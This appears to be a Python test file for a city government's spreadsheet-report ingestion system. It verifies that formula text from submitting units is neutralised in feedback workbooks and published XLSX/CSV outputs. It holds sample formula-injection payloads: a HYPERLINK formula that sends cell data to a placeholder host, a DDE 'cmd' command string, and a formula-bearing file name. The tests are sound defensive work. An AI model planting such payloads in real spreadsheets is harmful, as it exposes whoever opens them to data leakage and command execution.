"""Text from a unit's file never runs as a formula in what the city opens (feedback, reports, CSV)."""

from __future__ import annotations

from helpers import edit, set_figure, set_info, sheet

from cchc.loading.ingest import ingest_files
from cchc.warehouse.engine import prepare

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def text(wb, title: str, coordinate: str) -> None:
    """Store the cell as text, as Excel does for a value typed after an apostrophe ('=…)."""
    sheet(wb, title)[coordinate].data_type = "s"


def _cells(path):
    from openpyxl import load_workbook

    wb = load_workbook(path)  # formulas stay formulas: data_type 'f'
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_formula_text_from_a_unit_is_neutralised_in_its_feedback(samples, ref, tmp_path):
    engine = prepare(f"sqlite:///{tmp_path / 'w.db'}", ref)

    def spoil(wb):
        text(wb, "Thông tin chung", set_info(wb, "Mã đơn vị", HOSTILE[0]))  # echoed back as the unknown unit
        text(wb, "Số liệu", set_figure(wb, "comms.media_items", HOSTILE[1]))  # echoed as the number that is not
        text(wb, "Số liệu", set_figure(wb, "org.units_reduced", HOSTILE[2]))
        text(wb, "Thông tin chung", set_info(wb, "Kỳ báo cáo", HOSTILE[3]))

    bad = edit(samples / "h1" / "SNV_2024-H1.xlsx", tmp_path / "in" / "=cmd()+x.xlsx", spoil)
    (out,) = ingest_files(engine, ref, [bad])
    assert out.outcome == "rejected" and out.feedback
    cells = _cells(out.feedback)
    shown = " ".join(str(c.value) for c in cells)
    assert all(h in shown for h in (HOSTILE[0].upper(), "cmd|", "@SUM(A1:A9)")), (
        shown
    )  # shown to the unit as text (codes upper-cased)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"] == []


def test_published_figures_hold_no_unit_text_formulas(samples, ref, tmp_path):
    from cchc.figures.consolidate import consolidate_period
    from cchc.outputs.publish import figures_csv, publish_period

    engine = prepare(f"sqlite:///{tmp_path / 'w.db'}", ref)
    sneaky = edit(
        samples / "h1" / "SCT_2024-H1.xlsx",
        tmp_path / "in" / "SCT_2024-H1.xlsx",
        lambda wb: text(wb, "Thông tin chung", set_info(wb, "Người lập", HOSTILE[0])),
    )
    assert ingest_files(engine, ref, [sneaky])[0].outcome == "accepted"
    result = consolidate_period(engine, ref, "2024-H1")
    paths = publish_period(tmp_path / "out", result, ref)
    assert [c.coordinate for c in _cells(paths["xlsx"]) if c.data_type == "f"] == []
    for line in figures_csv(result, ref).splitlines():
        assert all(not field.startswith(("=", "+", "-", "@")) for field in line.split(","))
